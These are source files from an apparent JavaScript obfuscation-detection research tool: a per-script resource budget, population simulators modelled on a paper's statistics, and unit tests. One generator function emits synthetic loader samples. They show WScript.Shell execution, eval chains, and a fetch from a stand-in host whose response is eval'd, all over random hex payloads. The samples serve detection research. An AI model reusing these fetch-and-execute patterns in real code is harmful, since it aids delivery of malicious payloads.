// bugs. ResourceLimits declares per-script ceilings, and a Budget carries
// them through one script's analysis as a cooperative cancellation object:
// the lexer, parser, CFG builder, and data-flow pass charge it at safe
// points, and a tripped ceiling surfaces as a structured BudgetExceeded
// (hard stages) or as a recorded BudgetTrip the pipeline degrades around
// (soft stages) — see DESIGN.md §10 for the full degradation ladder.
//
// Accounting is deterministic: counters advance per token / AST node /
// data-flow edge in program order, so every count-based ceiling trips at
// the same place for any thread count. Only the wall-clock deadline is
// time-dependent; it is polled sparsely (every kDeadlinePollStride
// charges, and at stage checkpoints) to keep the guard overhead in the
// noise.
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>

namespace jst {

// Which ceiling a trip refers to.
enum class ResourceKind : std::uint8_t {
  kSourceBytes,    // raw script size, checked before the lexer runs
  kTokens,         // lexed tokens
  kAstNodes,       // AST arena allocations during parsing
  kAstDepth,       // parser nesting depth (≈ AST depth)
  kDataflowEdges,  // def -> use edges emitted by the data-flow pass
  kDeadline,       // per-script wall-clock time
};

std::string_view to_string(ResourceKind kind);

// Per-script ceilings. 0 disables a count ceiling; 0.0 disables the
// deadline. A default-constructed ResourceLimits therefore governs
// nothing and the pipeline behaves exactly as if no budget existed.
struct ResourceLimits {
  std::size_t max_source_bytes = 0;
  std::size_t max_tokens = 0;
  std::size_t max_ast_nodes = 0;
  std::size_t max_ast_depth = 0;
  std::size_t max_dataflow_edges = 0;
  double deadline_ms = 0.0;

  bool any_enabled() const {
    return max_source_bytes > 0 || max_tokens > 0 || max_ast_nodes > 0 ||
           max_ast_depth > 0 || max_dataflow_edges > 0 || deadline_ms > 0.0;
  }

  // Defaults sized for wild-study traffic (DESIGN.md §10): generous enough
  // that the seed corpus never trips, tight enough that a pathological
  // script cannot stall a worker. The depth ceiling sits below the
  // parser's hard recursion guard (700) so it trips first, and the
  // deadline mirrors the paper's two-minute data-flow timeout.
  static ResourceLimits production() {
    ResourceLimits limits;
    limits.max_source_bytes = 4 * 1024 * 1024;
    limits.max_tokens = 2'000'000;
    limits.max_ast_nodes = 1'000'000;
    limits.max_ast_depth = 512;
    limits.max_dataflow_edges = 4'000'000;
    limits.deadline_ms = 120'000.0;
    return limits;
  }
};

// One tripped ceiling: which resource, the configured limit, the value
// observed at the trip, and the pipeline stage that noticed it.
struct BudgetTrip {
  ResourceKind kind = ResourceKind::kDeadline;
  double limit = 0.0;
  double observed = 0.0;
  std::string stage;  // "lex" | "parse" | "cfg" | "dataflow" | checkpoint name

  // e.g. "token budget exceeded in lex (2000001 > 2000000)".
  std::string to_string() const;
};

// Thrown from hard pipeline stages (lex/parse/CFG) when a ceiling trips.
class BudgetExceeded : public std::runtime_error {
 public:
  explicit BudgetExceeded(BudgetTrip trip);
  const BudgetTrip& trip() const noexcept { return trip_; }

 private:
  BudgetTrip trip_;
};

// Cooperative per-script budget. Non-copyable; one instance lives for the
// duration of one script's analysis and is passed down by raw pointer
// (nullptr everywhere means "ungoverned", costing a branch per charge).
class Budget {
 public:
  // Deadline polls happen every this many charges of any one counter.
  // Charges below the stride never read the clock mid-stage — small
  // scripts only meet the deadline at stage checkpoints, which keeps the
  // trip point deterministic for them (DESIGN.md §10).
  static constexpr std::size_t kDeadlinePollStride = 4096;

  Budget() = default;  // all ceilings disabled
  explicit Budget(const ResourceLimits& limits)
      : limits_(limits),
        has_deadline_(limits.deadline_ms > 0.0),
        start_(std::chrono::steady_clock::now()) {}

  Budget(const Budget&) = delete;
  Budget& operator=(const Budget&) = delete;

  const ResourceLimits& limits() const noexcept { return limits_; }

  // Stage label recorded into trips; updated at stage boundaries.
  void set_stage(std::string_view stage) { stage_ = stage; }
  std::string_view stage() const noexcept { return stage_; }

  // --- hard checkpoints: throw BudgetExceeded on a tripped ceiling ---

  void check_source_bytes(std::size_t bytes) {
    if (limits_.max_source_bytes > 0 && bytes > limits_.max_source_bytes) {
      trip(ResourceKind::kSourceBytes, limits_.max_source_bytes, bytes);
    }
  }

  void charge_tokens(std::size_t n = 1) {
    tokens_ += n;
    if (limits_.max_tokens > 0 && tokens_ > limits_.max_tokens) {
      trip(ResourceKind::kTokens, limits_.max_tokens, tokens_);
    }
    if (has_deadline_ && tokens_ % kDeadlinePollStride == 0) check_deadline();
  }

  void charge_ast_nodes(std::size_t n = 1) {
    ast_nodes_ += n;
    if (limits_.max_ast_nodes > 0 && ast_nodes_ > limits_.max_ast_nodes) {
      trip(ResourceKind::kAstNodes, limits_.max_ast_nodes, ast_nodes_);
    }
    if (has_deadline_ && ast_nodes_ % kDeadlinePollStride == 0) {
      check_deadline();
    }
  }

  void check_depth(std::size_t depth) {
    if (limits_.max_ast_depth > 0 && depth > limits_.max_ast_depth) {
      trip(ResourceKind::kAstDepth, limits_.max_ast_depth, depth);
    }
  }

  // Sparse deadline poll for hard stages without their own counter (CFG):
  // reads the clock every kDeadlinePollStride calls.
  void poll_deadline() {
    if (has_deadline_ && ++polls_ % kDeadlinePollStride == 0) {
      check_deadline();
    }
  }

  // Unconditional clock read; throws when the deadline has passed.
  void check_deadline() {
    if (!has_deadline_) return;
    const double elapsed = elapsed_ms();
    if (elapsed > limits_.deadline_ms) {
      trip(ResourceKind::kDeadline, limits_.deadline_ms, elapsed);
    }
  }

  // --- soft checkpoints: report instead of throwing (caller degrades) ---

  // Returns false once the edge ceiling is exceeded; the data-flow pass
  // stops emitting edges and records the trip via make_trip().
  bool try_charge_dataflow_edges(std::size_t n = 1) {
    dataflow_edges_ += n;
    return limits_.max_dataflow_edges == 0 ||
           dataflow_edges_ <= limits_.max_dataflow_edges;
  }

  // Non-throwing deadline probe for soft stages and stage checkpoints.
  bool deadline_expired() const {
    return has_deadline_ && elapsed_ms() > limits_.deadline_ms;
  }

  // Builds the trip record for a soft trip noticed by the caller.
  BudgetTrip make_trip(ResourceKind kind) const;

  // --- accounting snapshot ---

  double elapsed_ms() const {
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - start_)
        .count();
  }
  std::size_t tokens_charged() const noexcept { return tokens_; }
  std::size_t ast_nodes_charged() const noexcept { return ast_nodes_; }
  std::size_t dataflow_edges_charged() const noexcept {
    return dataflow_edges_;
  }

 private:
  [[noreturn]] void trip(ResourceKind kind, double limit, double observed);

  ResourceLimits limits_;
  bool has_deadline_ = false;
  std::chrono::steady_clock::time_point start_{};
  std::size_t tokens_ = 0;
  std::size_t ast_nodes_ = 0;
  std::size_t dataflow_edges_ = 0;
  std::size_t polls_ = 0;
  std::string stage_;
};

}  // namespace jst
