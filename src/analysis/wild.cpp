#include "analysis/wild.h"

#include <algorithm>

#include "corpus/generator.h"
#include "corpus/snippets.h"
#include "support/strings.h"
#include "support/thread_pool.h"

namespace jst::analysis {
namespace {

using transform::Technique;

// Shorthand for config tables.
ConfigWeight config(std::initializer_list<Technique> techniques,
                    double weight) {
  return ConfigWeight{std::vector<Technique>(techniques), weight};
}

}  // namespace

PopulationSpec alexa_spec() {
  PopulationSpec spec;
  spec.name = "Alexa Top 10k";
  // §IV-B1: 68.60% of extracted scripts transformed (68.20% minified,
  // 0.40% obfuscated); Figure 2 technique mix.
  spec.transformed_rate = 0.686;
  spec.flavor = 1;
  spec.partial_transform_rate = 0.11;  // 11/100 in the manual review
  // Config weights are *script-level* shares; Figure 2's per-technique
  // probabilities are averaged level-2 confidences, which spread obfuscation
  // mass over many low-confidence scripts — hence the tiny obfuscated
  // share here (paper: 0.40% of scripts) next to Figure 2's 5.72% id-obf
  // confidence.
  spec.configs = {
      config({Technique::kMinificationSimple}, 0.49),
      config({Technique::kMinificationAdvanced}, 0.425),
      config({Technique::kMinificationSimple,
              Technique::kIdentifierObfuscation}, 0.010),
      config({Technique::kStringObfuscation,
              Technique::kMinificationSimple}, 0.006),
      config({Technique::kGlobalArray, Technique::kIdentifierObfuscation},
             0.003),
      config({Technique::kDeadCodeInjection, Technique::kMinificationSimple},
             0.004),
      config({Technique::kSelfDefending}, 0.002),
      config({Technique::kDebugProtection}, 0.002),
  };
  return spec;
}

PopulationSpec npm_spec() {
  PopulationSpec spec;
  spec.name = "npm Top 10k";
  // §IV-B2: 8.7% transformed (8.46% minified, 0.25% obfuscated);
  // Figure 3 mix: minification simple 58.34%, advanced 36.57%.
  spec.transformed_rate = 0.087;
  spec.flavor = 2;
  spec.partial_transform_rate = 0.0;  // npm files are fully transformed
  spec.configs = {
      config({Technique::kMinificationSimple}, 0.58),
      config({Technique::kMinificationAdvanced}, 0.345),
      config({Technique::kMinificationSimple,
              Technique::kIdentifierObfuscation}, 0.045),
      config({Technique::kStringObfuscation,
              Technique::kMinificationSimple}, 0.015),
      config({Technique::kGlobalArray, Technique::kIdentifierObfuscation},
             0.008),
      config({Technique::kDebugProtection}, 0.004),
  };
  return spec;
}

PopulationSpec dnc_spec() {
  PopulationSpec spec;
  spec.name = "DNC (exploit kits)";
  // §IV-C: 65.94% transformed; Figure 5: identifier obfuscation dominant,
  // string obfuscation + minification advanced 17-21%, minification
  // simple ~22%, dead-code/CFF/global-array 5-10%.
  spec.transformed_rate = 0.6594;
  spec.flavor = 1;
  spec.malware = true;
  spec.configs = {
      config({Technique::kIdentifierObfuscation}, 0.26),
      config({Technique::kIdentifierObfuscation,
              Technique::kStringObfuscation}, 0.17),
      config({Technique::kMinificationSimple}, 0.15),
      config({Technique::kMinificationAdvanced,
              Technique::kIdentifierObfuscation}, 0.13),
      config({Technique::kGlobalArray, Technique::kIdentifierObfuscation},
             0.08),
      config({Technique::kControlFlowFlattening}, 0.07),
      config({Technique::kDeadCodeInjection,
              Technique::kStringObfuscation}, 0.07),
      config({Technique::kNoAlphanumeric}, 0.02),
      config({Technique::kDebugProtection,
              Technique::kIdentifierObfuscation}, 0.03),
      config({Technique::kSelfDefending}, 0.02),
  };
  return spec;
}

PopulationSpec hynek_spec() {
  PopulationSpec spec;
  spec.name = "Hynek (malware collection)";
  spec.transformed_rate = 0.7307;
  spec.flavor = 0;
  spec.malware = true;
  spec.configs = {
      config({Technique::kIdentifierObfuscation}, 0.30),
      config({Technique::kIdentifierObfuscation,
              Technique::kStringObfuscation}, 0.19),
      config({Technique::kMinificationAdvanced,
              Technique::kIdentifierObfuscation}, 0.16),
      config({Technique::kStringObfuscation,
              Technique::kGlobalArray}, 0.10),
      config({Technique::kControlFlowFlattening}, 0.08),
      config({Technique::kDeadCodeInjection,
              Technique::kIdentifierObfuscation}, 0.08),
      config({Technique::kMinificationSimple}, 0.05),
      config({Technique::kNoAlphanumeric}, 0.02),
      config({Technique::kDebugProtection}, 0.02),
  };
  return spec;
}

PopulationSpec bsi_spec() {
  PopulationSpec spec;
  spec.name = "BSI (JScript loaders)";
  // Lowest transformed rate (28.93%): loaders hide a small payload in
  // mostly-regular code and rely on identifier randomization per wave.
  spec.transformed_rate = 0.2893;
  spec.flavor = 0;
  spec.malware = true;
  spec.configs = {
      config({Technique::kIdentifierObfuscation}, 0.37),
      config({Technique::kStringObfuscation}, 0.21),
      config({Technique::kMinificationAdvanced,
              Technique::kIdentifierObfuscation}, 0.17),
      config({Technique::kGlobalArray,
              Technique::kStringObfuscation}, 0.09),
      config({Technique::kDeadCodeInjection}, 0.07),
      config({Technique::kControlFlowFlattening}, 0.05),
      config({Technique::kNoAlphanumeric}, 0.02),
      config({Technique::kDebugProtection}, 0.02),
  };
  return spec;
}

PopulationSpec alexa_rank_bucket_spec(std::size_t bucket_index) {
  PopulationSpec spec = alexa_spec();
  // §IV-B1: ~80% transformed in the Top 1k, 72.35% in the last Top-10k
  // bucket, 64.72% around rank 100k. Interpolate a gentle decay.
  const double start = 0.80;
  const double end = 0.7235;
  const double t =
      std::min<double>(static_cast<double>(bucket_index) / 9.0, 1.0);
  spec.transformed_rate = start + (end - start) * t;
  spec.name = "Alexa rank bucket " + std::to_string(bucket_index + 1);
  return spec;
}

PopulationSpec npm_rank_bucket_spec(std::size_t bucket_index) {
  PopulationSpec spec = npm_spec();
  // §IV-B2 Figure 4: the 1k most popular packages are 2.4-4.4x less
  // likely to contain transformed code; Top-1k balances basic/advanced
  // minification (49%/47%) while later buckets prefer simple (58%/37%).
  if (bucket_index == 0) {
    spec.transformed_rate = 0.032;
    spec.configs = {
        config({Technique::kMinificationSimple}, 0.49),
        config({Technique::kMinificationAdvanced}, 0.47),
        config({Technique::kMinificationSimple,
                Technique::kIdentifierObfuscation}, 0.04),
    };
  } else {
    const double rate = 0.075 + 0.006 * static_cast<double>(bucket_index);
    spec.transformed_rate = std::min(rate, 0.14);
  }
  spec.name = "npm rank bucket " + std::to_string(bucket_index + 1);
  return spec;
}

std::string generate_malware_base(Rng& rng) {
  corpus::ProgramGenerator generator(rng.next());
  corpus::GeneratorOptions options;
  options.flavor = 0;
  options.min_bytes = 600 + rng.index(1600);
  options.comment_line_probability = 0.02;  // droppers are rarely commented
  options.allow_classes = false;
  std::string source = generator.generate(options);

  // Loader motifs: payload strings, eval chains, ActiveX/WScript access,
  // document.write(unescape(...)).
  std::string payload;
  const std::size_t payload_length = 80 + rng.index(420);
  for (std::size_t i = 0; i < payload_length; ++i) {
    payload += "0123456789abcdef"[rng.index(16)];
  }
  source += "\nvar payload = \"" + payload + "\";\n";
  switch (rng.index(4)) {
    case 0:
      source += "var shell = new ActiveXObject(\"WScript.Shell\");\n"
                "shell.Run(decode(payload), 0, false);\n"
                "function decode(data) {\n"
                "  var out = \"\";\n"
                "  for (var i = 0; i < data.length; i += 2) {\n"
                "    out += String.fromCharCode(parseInt(data.substr(i, 2), 16));\n"
                "  }\n"
                "  return out;\n"
                "}\n";
      break;
    case 1:
      source += "document.write(unescape(payload));\n";
      break;
    case 2:
      source += "var runner = this[\"ev\" + \"al\"];\n"
                "runner(payload.split(\"\").reverse().join(\"\"));\n";
      break;
    default:
      source += "var xhr = new XMLHttpRequest();\n"
                "xhr.open(\"GET\", \"//cdn.example-ads.com/t.php?i=\" + payload, true);\n"
                "xhr.send(null);\n"
                "setTimeout(function () { eval(xhr.responseText); }, 1200);\n";
      break;
  }
  return source;
}

std::vector<Sample> simulate_population(const PopulationSpec& spec,
                                        std::size_t script_count,
                                        std::uint64_t seed) {
  // One seed per script, drawn serially; each script then simulates from
  // its own RNG + generator, so the population fans out over the thread
  // pool and is identical for any thread count.
  Rng rng(seed);
  std::vector<std::uint64_t> seeds(script_count);
  for (std::uint64_t& script_seed : seeds) script_seed = rng.next();

  const auto snippets = corpus::seed_snippets();
  std::vector<double> weights;
  weights.reserve(spec.configs.size());
  for (const ConfigWeight& entry : spec.configs) weights.push_back(entry.weight);

  std::vector<Sample> out(script_count);
  support::run_parallel(0, script_count, [&](std::size_t i) {
    Rng script_rng(seeds[i]);
    corpus::ProgramGenerator generator(seeds[i] ^ 0x77aa55ULL);

    std::string base;
    if (spec.malware) {
      base = generate_malware_base(script_rng);
    } else {
      corpus::GeneratorOptions options;
      options.flavor = spec.flavor;
      options.min_bytes = 700 + script_rng.index(5200);
      if (script_rng.bernoulli(0.2)) {
        base = std::string(snippets[script_rng.index(snippets.size())]);
        base += "\n";
        options.min_bytes = 600;
        base += generator.generate(options);
      } else {
        base = generator.generate(options);
      }
    }

    if (!script_rng.bernoulli(spec.transformed_rate) || spec.configs.empty()) {
      out[i] = make_regular_sample(base);
      return;
    }
    const ConfigWeight& chosen =
        spec.configs[script_rng.weighted_index(weights)];
    Sample sample = apply_configuration(base, chosen.techniques, script_rng);
    if (script_rng.bernoulli(spec.partial_transform_rate)) {
      // Regular head + transformed tail (e.g., hand-written glue followed
      // by a minified library, as the paper's Alexa review observed).
      corpus::GeneratorOptions head_options;
      head_options.flavor = spec.flavor;
      head_options.min_bytes = 500;
      sample.source = generator.generate(head_options) + "\n" + sample.source;
    }
    out[i] = std::move(sample);
  });
  return out;
}

}  // namespace jst::analysis
