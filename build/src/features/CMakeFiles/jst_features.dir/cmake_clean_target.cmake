file(REMOVE_RECURSE
  "libjst_features.a"
)
