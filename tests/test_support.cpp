#include <gtest/gtest.h>

#include <cmath>
#include <set>

#include "support/budget.h"
#include "support/json_writer.h"
#include "support/rng.h"
#include "support/stats.h"
#include "support/strings.h"

namespace jst {
namespace {

// --- Rng ---------------------------------------------------------------

TEST(Rng, DeterministicForSeed) {
  Rng a(7);
  Rng b(7);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Rng, DifferentSeedsDiffer) {
  Rng a(1);
  Rng b(2);
  bool any_different = false;
  for (int i = 0; i < 10; ++i) {
    if (a.next() != b.next()) any_different = true;
  }
  EXPECT_TRUE(any_different);
}

TEST(Rng, UniformIntInRange) {
  Rng rng(3);
  for (int i = 0; i < 1000; ++i) {
    const std::int64_t value = rng.uniform_int(-5, 9);
    EXPECT_GE(value, -5);
    EXPECT_LE(value, 9);
  }
}

TEST(Rng, UniformIntCoversRange) {
  Rng rng(4);
  std::set<std::int64_t> seen;
  for (int i = 0; i < 500; ++i) seen.insert(rng.uniform_int(0, 4));
  EXPECT_EQ(seen.size(), 5u);
}

TEST(Rng, UniformIntRejectsInvertedRange) {
  Rng rng(5);
  EXPECT_THROW(rng.uniform_int(3, 2), InvalidArgument);
}

TEST(Rng, UniformInUnitInterval) {
  Rng rng(6);
  for (int i = 0; i < 1000; ++i) {
    const double value = rng.uniform();
    EXPECT_GE(value, 0.0);
    EXPECT_LT(value, 1.0);
  }
}

TEST(Rng, BernoulliExtremes) {
  Rng rng(8);
  for (int i = 0; i < 50; ++i) {
    EXPECT_FALSE(rng.bernoulli(0.0));
    EXPECT_TRUE(rng.bernoulli(1.0));
  }
}

TEST(Rng, BernoulliRoughlyCalibrated) {
  Rng rng(9);
  int hits = 0;
  const int trials = 20000;
  for (int i = 0; i < trials; ++i) hits += rng.bernoulli(0.3) ? 1 : 0;
  EXPECT_NEAR(static_cast<double>(hits) / trials, 0.3, 0.03);
}

TEST(Rng, NormalMoments) {
  Rng rng(10);
  stats::Accumulator acc;
  for (int i = 0; i < 20000; ++i) acc.add(rng.normal(5.0, 2.0));
  EXPECT_NEAR(acc.mean(), 5.0, 0.1);
  EXPECT_NEAR(acc.stddev(), 2.0, 0.1);
}

TEST(Rng, WeightedIndexRespectsWeights) {
  Rng rng(11);
  const std::vector<double> weights = {0.0, 1.0, 3.0};
  std::array<int, 3> counts{};
  for (int i = 0; i < 12000; ++i) ++counts[rng.weighted_index(weights)];
  EXPECT_EQ(counts[0], 0);
  EXPECT_NEAR(static_cast<double>(counts[2]) / counts[1], 3.0, 0.5);
}

TEST(Rng, WeightedIndexRejectsZeroTotal) {
  Rng rng(12);
  const std::vector<double> weights = {0.0, 0.0};
  EXPECT_THROW(rng.weighted_index(weights), InvalidArgument);
}

TEST(Rng, SampleIndicesDistinct) {
  Rng rng(13);
  const auto sample = rng.sample_indices(100, 30);
  EXPECT_EQ(sample.size(), 30u);
  std::set<std::size_t> unique(sample.begin(), sample.end());
  EXPECT_EQ(unique.size(), 30u);
  for (std::size_t index : sample) EXPECT_LT(index, 100u);
}

TEST(Rng, SampleIndicesFullSet) {
  Rng rng(14);
  const auto sample = rng.sample_indices(10, 10);
  std::set<std::size_t> unique(sample.begin(), sample.end());
  EXPECT_EQ(unique.size(), 10u);
}

TEST(Rng, ShufflePreservesElements) {
  Rng rng(15);
  std::vector<int> values = {1, 2, 3, 4, 5, 6, 7};
  std::vector<int> shuffled = values;
  rng.shuffle(shuffled);
  std::multiset<int> a(values.begin(), values.end());
  std::multiset<int> b(shuffled.begin(), shuffled.end());
  EXPECT_EQ(a, b);
}

TEST(Rng, IdentifierShape) {
  Rng rng(16);
  for (int i = 0; i < 50; ++i) {
    const std::string name = rng.identifier(8);
    EXPECT_EQ(name.size(), 8u);
    EXPECT_TRUE(strings::is_identifier(name)) << name;
  }
}

TEST(Rng, HexStringShape) {
  Rng rng(17);
  const std::string hex = rng.hex_string(12);
  EXPECT_EQ(hex.size(), 12u);
  for (char c : hex) EXPECT_TRUE(strings::is_hex_digit(c));
}

TEST(Rng, SplitProducesIndependentStream) {
  Rng a(18);
  Rng b = a.split();
  EXPECT_NE(a.next(), b.next());
}

// --- strings -----------------------------------------------------------

TEST(Strings, SplitBasic) {
  const auto parts = strings::split("a|b||c", '|');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[2], "");
  EXPECT_EQ(parts[3], "c");
}

TEST(Strings, SplitEmpty) {
  const auto parts = strings::split("", ',');
  ASSERT_EQ(parts.size(), 1u);
  EXPECT_EQ(parts[0], "");
}

TEST(Strings, JoinInvertsSplit) {
  const std::vector<std::string> parts = {"x", "y", "z"};
  EXPECT_EQ(strings::join(parts, "--"), "x--y--z");
}

TEST(Strings, Trim) {
  EXPECT_EQ(strings::trim("  hi\t\n"), "hi");
  EXPECT_EQ(strings::trim("\r\n"), "");
  EXPECT_EQ(strings::trim("x"), "x");
}

TEST(Strings, IsIdentifier) {
  EXPECT_TRUE(strings::is_identifier("foo"));
  EXPECT_TRUE(strings::is_identifier("_0x1a"));
  EXPECT_TRUE(strings::is_identifier("$"));
  EXPECT_FALSE(strings::is_identifier("1abc"));
  EXPECT_FALSE(strings::is_identifier(""));
  EXPECT_FALSE(strings::is_identifier("a-b"));
}

TEST(Strings, CountLines) {
  EXPECT_EQ(strings::count_lines(""), 1u);
  EXPECT_EQ(strings::count_lines("a\nb"), 2u);
  EXPECT_EQ(strings::count_lines("a\nb\n"), 3u);
}

TEST(Strings, EscapeJsString) {
  EXPECT_EQ(strings::escape_js_string("a\"b"), "a\\\"b");
  EXPECT_EQ(strings::escape_js_string("a\nb"), "a\\nb");
  EXPECT_EQ(strings::escape_js_string("back\\slash"), "back\\\\slash");
}

TEST(Strings, HexEscapeAll) {
  EXPECT_EQ(strings::hex_escape_all("AB"), "\\x41\\x42");
}

TEST(Strings, UnicodeEscapeAll) {
  EXPECT_EQ(strings::unicode_escape_all("A"), "\\u0041");
}

TEST(Strings, FormatDoubleTrims) {
  EXPECT_EQ(strings::format_double(1.5), "1.5");
  EXPECT_EQ(strings::format_double(2.0), "2");
  EXPECT_EQ(strings::format_double(0.25, 4), "0.25");
}

TEST(Strings, ToBaseN) {
  EXPECT_EQ(strings::to_base_n(0, 16), "0");
  EXPECT_EQ(strings::to_base_n(255, 16), "ff");
  EXPECT_EQ(strings::to_base_n(61, 62), "Z");
  EXPECT_EQ(strings::to_base_n(62, 62), "10");
  EXPECT_THROW(strings::to_base_n(1, 1), InvalidArgument);
}

TEST(Strings, Fnv1aStable) {
  EXPECT_EQ(strings::fnv1a("abc"), strings::fnv1a("abc"));
  EXPECT_NE(strings::fnv1a("abc"), strings::fnv1a("abd"));
}

TEST(Strings, AlnumRatio) {
  EXPECT_DOUBLE_EQ(strings::alnum_ratio("abc123"), 1.0);
  EXPECT_DOUBLE_EQ(strings::alnum_ratio("!!!"), 0.0);
  EXPECT_NEAR(strings::alnum_ratio("a!"), 0.5, 1e-9);
}

// --- stats -------------------------------------------------------------

TEST(Stats, MeanAndVariance) {
  const std::vector<double> values = {1, 2, 3, 4};
  EXPECT_DOUBLE_EQ(stats::mean(values), 2.5);
  EXPECT_DOUBLE_EQ(stats::variance(values), 1.25);
}

TEST(Stats, EmptyInputsAreZero) {
  const std::vector<double> empty;
  EXPECT_DOUBLE_EQ(stats::mean(empty), 0.0);
  EXPECT_DOUBLE_EQ(stats::stddev(empty), 0.0);
  EXPECT_DOUBLE_EQ(stats::median(empty), 0.0);
  EXPECT_DOUBLE_EQ(stats::max(empty), 0.0);
}

TEST(Stats, MedianAndPercentile) {
  const std::vector<double> values = {5, 1, 3};
  EXPECT_DOUBLE_EQ(stats::median(values), 3.0);
  EXPECT_DOUBLE_EQ(stats::percentile(values, 0), 1.0);
  EXPECT_DOUBLE_EQ(stats::percentile(values, 100), 5.0);
}

TEST(Stats, RelativeStddev) {
  const std::vector<double> values = {10, 10, 10};
  EXPECT_DOUBLE_EQ(stats::relative_stddev_percent(values), 0.0);
}

TEST(Stats, ByteEntropyBounds) {
  const std::vector<unsigned char> uniform_byte(100, 'a');
  EXPECT_DOUBLE_EQ(stats::byte_entropy(uniform_byte), 0.0);
  std::vector<unsigned char> all;
  for (int i = 0; i < 256; ++i) all.push_back(static_cast<unsigned char>(i));
  EXPECT_NEAR(stats::byte_entropy(all), 8.0, 1e-9);
}

TEST(Stats, AccumulatorMatchesBatch) {
  stats::Accumulator acc;
  const std::vector<double> values = {2, 4, 4, 4, 5, 5, 7, 9};
  for (double v : values) acc.add(v);
  EXPECT_DOUBLE_EQ(acc.mean(), stats::mean(values));
  EXPECT_NEAR(acc.variance(), stats::variance(values), 1e-12);
  EXPECT_DOUBLE_EQ(acc.min(), 2.0);
  EXPECT_DOUBLE_EQ(acc.max(), 9.0);
}

// --- JsonWriter --------------------------------------------------------

TEST(JsonWriter, ObjectWithValues) {
  JsonWriter w;
  w.begin_object();
  w.key("name");
  w.value("jstraced");
  w.key("accuracy");
  w.value(0.9941);
  w.key("count");
  w.value(42);
  w.key("ok");
  w.value(true);
  w.end_object();
  EXPECT_EQ(w.str(),
            "{\"name\":\"jstraced\",\"accuracy\":0.9941,\"count\":42,"
            "\"ok\":true}");
}

TEST(JsonWriter, NestedArrays) {
  JsonWriter w;
  w.begin_array();
  w.begin_array();
  w.value(1);
  w.value(2);
  w.end_array();
  w.begin_array();
  w.end_array();
  w.end_array();
  EXPECT_EQ(w.str(), "[[1,2],[]]");
}

TEST(JsonWriter, EscapesStrings) {
  JsonWriter w;
  w.begin_object();
  w.key("text");
  w.value("a\"b\nc");
  w.end_object();
  EXPECT_EQ(w.str(), "{\"text\":\"a\\\"b\\nc\"}");
}

TEST(JsonWriter, NonFiniteBecomesNull) {
  JsonWriter w;
  w.begin_array();
  w.value(std::nan(""));
  w.end_array();
  EXPECT_EQ(w.str(), "[null]");
}

// --- Budget ------------------------------------------------------------

TEST(Budget, DefaultLimitsGovernNothing) {
  ResourceLimits limits;
  EXPECT_FALSE(limits.any_enabled());
  Budget budget(limits);
  for (int i = 0; i < 100000; ++i) budget.charge_tokens();
  for (int i = 0; i < 100000; ++i) budget.charge_ast_nodes();
  budget.check_depth(100000);
  for (int i = 0; i < 100000; ++i) {
    EXPECT_TRUE(budget.try_charge_dataflow_edges());
  }
  EXPECT_FALSE(budget.deadline_expired());
  EXPECT_EQ(budget.tokens_charged(), 100000u);
  EXPECT_EQ(budget.ast_nodes_charged(), 100000u);
  EXPECT_EQ(budget.dataflow_edges_charged(), 100000u);
}

TEST(Budget, ProductionLimitsAreEnabled) {
  const ResourceLimits limits = ResourceLimits::production();
  EXPECT_TRUE(limits.any_enabled());
  EXPECT_GT(limits.max_source_bytes, 0u);
  EXPECT_GT(limits.max_tokens, 0u);
  EXPECT_GT(limits.max_ast_nodes, 0u);
  EXPECT_GT(limits.max_ast_depth, 0u);
  EXPECT_GT(limits.max_dataflow_edges, 0u);
  EXPECT_GT(limits.deadline_ms, 0.0);
}

TEST(Budget, TokenCeilingTripsExactlyPastLimit) {
  ResourceLimits limits;
  limits.max_tokens = 10;
  Budget budget(limits);
  budget.set_stage("lex");
  for (int i = 0; i < 10; ++i) budget.charge_tokens();  // at the limit: fine
  try {
    budget.charge_tokens();  // 11th trips
    FAIL() << "expected BudgetExceeded";
  } catch (const BudgetExceeded& error) {
    EXPECT_EQ(error.trip().kind, ResourceKind::kTokens);
    EXPECT_EQ(error.trip().limit, 10.0);
    EXPECT_EQ(error.trip().observed, 11.0);
    EXPECT_EQ(error.trip().stage, "lex");
    EXPECT_NE(std::string(error.what()).find("tokens"), std::string::npos);
  }
}

TEST(Budget, AstNodeCeilingTrips) {
  ResourceLimits limits;
  limits.max_ast_nodes = 5;
  Budget budget(limits);
  budget.set_stage("parse");
  for (int i = 0; i < 5; ++i) budget.charge_ast_nodes();
  EXPECT_THROW(budget.charge_ast_nodes(), BudgetExceeded);
}

TEST(Budget, DepthCeilingTrips) {
  ResourceLimits limits;
  limits.max_ast_depth = 8;
  Budget budget(limits);
  budget.set_stage("parse");
  budget.check_depth(8);  // at the limit: fine
  try {
    budget.check_depth(9);
    FAIL() << "expected BudgetExceeded";
  } catch (const BudgetExceeded& error) {
    EXPECT_EQ(error.trip().kind, ResourceKind::kAstDepth);
    EXPECT_EQ(error.trip().limit, 8.0);
    EXPECT_EQ(error.trip().observed, 9.0);
  }
}

TEST(Budget, DataflowEdgesAreSoft) {
  ResourceLimits limits;
  limits.max_dataflow_edges = 3;
  Budget budget(limits);
  budget.set_stage("dataflow");
  EXPECT_TRUE(budget.try_charge_dataflow_edges());
  EXPECT_TRUE(budget.try_charge_dataflow_edges());
  EXPECT_TRUE(budget.try_charge_dataflow_edges());
  // Past the ceiling: refused, never throws.
  EXPECT_FALSE(budget.try_charge_dataflow_edges());
  EXPECT_FALSE(budget.try_charge_dataflow_edges());
  const BudgetTrip trip = budget.make_trip(ResourceKind::kDataflowEdges);
  EXPECT_EQ(trip.limit, 3.0);
  EXPECT_GT(trip.observed, 3.0);
}

TEST(Budget, ExpiredDeadlineDetected) {
  ResourceLimits limits;
  limits.deadline_ms = 1e-9;  // already expired by the first check
  Budget budget(limits);
  budget.set_stage("features");
  EXPECT_TRUE(budget.deadline_expired());
  EXPECT_THROW(budget.check_deadline(), BudgetExceeded);
}

TEST(Budget, GenerousDeadlineDoesNotTrip) {
  ResourceLimits limits;
  limits.deadline_ms = 1e9;
  Budget budget(limits);
  EXPECT_FALSE(budget.deadline_expired());
  budget.check_deadline();  // no throw
  for (int i = 0; i < 10000; ++i) budget.charge_tokens();
}

TEST(Budget, TripDiagnosticsFormatted) {
  ResourceLimits limits;
  limits.max_tokens = 2;
  Budget budget(limits);
  budget.set_stage("lex");
  budget.charge_tokens();
